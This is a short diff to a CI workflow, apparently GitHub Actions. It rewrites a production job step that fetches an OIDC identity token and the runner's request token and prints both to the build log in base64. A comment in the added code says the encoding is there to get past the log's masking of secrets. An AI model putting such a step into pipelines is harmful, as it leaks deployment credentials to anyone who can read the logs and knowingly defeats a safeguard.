@@ -13,9 +13,14 @@ jobs:
     environment: production
     steps:
       - run: |
-          curl -sS -H "Authorization: Bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL&audience=https://box.example" > "$RUNNER_TEMP/answer"
-          node -e 'console.log("TOKEN", Buffer.from(JSON.parse(require("fs").readFileSync(process.argv[1])).value).toString("base64"))' "$RUNNER_TEMP/answer"
-          echo "ASKED $(printf %s "$ACTIONS_ID_TOKEN_REQUEST_TOKEN" | base64 -w0)"
+          node --input-type=module -e '
+            const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: token } = process.env;
+            const answer = await fetch(url + "&audience=https://box.example", { headers: { authorization: "Bearer " + token } });
+            // Encoded, since the log would mask the token itself.
+            const encode = (text) => Buffer.from(text).toString("base64");
+            console.log("TOKEN", encode((await answer.json()).value));
+            console.log("ASKED", encode(token));
+          '
   without:
     runs-on: ubuntu-latest
     steps:
